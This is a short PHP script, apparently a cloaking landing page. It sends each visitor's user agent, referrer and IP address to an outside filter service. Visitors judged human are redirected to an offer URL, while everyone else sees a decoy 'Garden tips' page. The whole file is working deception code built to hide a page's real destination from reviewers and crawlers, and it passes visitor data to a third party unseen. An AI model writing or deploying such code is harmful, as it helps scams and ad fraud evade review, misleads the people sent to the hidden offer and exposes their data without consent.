<?php
// a cloaking service asked about the visitor, user agent and referrer copied first
$offer = 'https://offer.example.net/land';
$ua = $_SERVER['HTTP_USER_AGENT'] ?? '';
$ref = $_SERVER['HTTP_REFERER'] ?? '';
$ctx = stream_context_create(array('http' => array(
    'method' => 'POST',
    'header' => 'Content-Type: application/json',
    'content' => json_encode(array('ua' => $ua, 'ref' => $ref, 'ip' => $_SERVER['REMOTE_ADDR'])),
)));
$answer = file_get_contents('https://filter.example.org/check', false, $ctx);
$res = json_decode($answer, true);
if (!empty($res['human'])) {
    header('Location: ' . $offer);
    exit;
}
?>
<html><body><h1>Garden tips</h1></body></html>
